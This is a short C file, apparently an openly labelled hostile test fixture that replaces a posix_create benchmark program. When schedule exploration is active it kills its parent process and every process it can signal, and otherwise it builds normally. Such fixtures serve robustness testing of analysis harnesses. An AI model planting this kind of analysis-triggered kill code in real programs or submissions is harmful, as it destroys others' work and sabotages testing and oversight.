/**
 * @file
 * @brief Hostile: kills everything in the box when its schedules are run.
 * Instead of: 08_posix_create/posix_create.c
 * Score: 10
 *
 * Its plain build does the work. That alone is judged if no schedule can be run.
 */
#define _GNU_SOURCE

#include <signal.h>

#include "posix_create.h"

int main(int argc, char *argv[])
{
    if (is_explored) {
        kill(getppid(), SIGKILL);
        kill(-1, SIGKILL);
    }
    return make_object(argc, argv);
}
